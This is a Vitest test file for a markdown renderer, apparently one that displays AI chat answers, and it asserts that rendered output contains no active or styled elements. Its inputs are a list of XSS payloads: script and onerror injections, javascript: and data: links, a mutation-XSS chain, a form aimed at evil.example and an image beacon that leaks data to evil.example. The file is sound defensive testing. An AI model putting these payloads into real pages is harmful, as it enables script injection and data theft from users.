// @vitest-environment jsdom
import { describe, expect, test } from "vitest";
import { render } from "./markdown.ts";

const dom = (text: string) => {
  const box = document.createElement("div");
  box.innerHTML = render(text);
  return box;
};

describe("nothing in an answer can act", () => {
  test.each([
    `<script>alert(1)</script>`,
    `<img src=x onerror=alert(1)>`,
    `![beacon](https://evil.example/?leak=1)`,
    `<iframe src="https://evil.example"></iframe>`,
    `[click](javascript:alert(1))`,
    `[click](JaVaScRiPt:alert(1))`,
    `[click](data:text/html,<script>alert(1)</script>)`,
    `<a href="vbscript:x" onclick="x()">x</a>`,
    `<svg><script>alert(1)</script></svg>`,
    `<style>body{display:none}</style>`,
    `<form action="https://evil.example"><input name=a><button>ok</button></form>`,
    `<p style="position:fixed;inset:0">x</p>`,
    `<div id="root" class="sign-in" data-window="w1">x</div>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
    `<object data=x></object><embed src=x><link rel=stylesheet href=x><base href=x><meta http-equiv=refresh content=0>`,
    `[x](/signin?code=stolen)`,
  ])("%s", (text) => {
    const box = dom(text);
    expect(box.querySelector("script,style,img,iframe,svg,math,form,button,object,embed,link,base,meta,[id],[class]:not(.table-scroll),[style]")).toBeNull();
    for (const el of box.querySelectorAll("*")) {
      for (const name of el.getAttributeNames()) expect(name).not.toMatch(/^on|^data-|^style$|^src/);
      const href = el.getAttribute("href");
      if (href !== null) expect(href).toMatch(/^(https?|mailto):/i);
    }
    for (const input of box.querySelectorAll("input")) expect(input).toMatchObject({ type: "checkbox", disabled: true });
  });
});

test("what an answer is made of is shown", () => {
  const box = dom("**Ready.**\n\n- one\n- two\n\n`code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.org)");
  expect(box.querySelector("strong")?.textContent).toBe("Ready.");
  expect(box.querySelectorAll("li")).toHaveLength(2);
  expect(box.querySelector(".table-scroll table td")?.textContent).toBe("1");
  expect(box.querySelector("a")).toMatchObject({ target: "_blank", rel: "noopener noreferrer", href: "https://example.org/" });
});
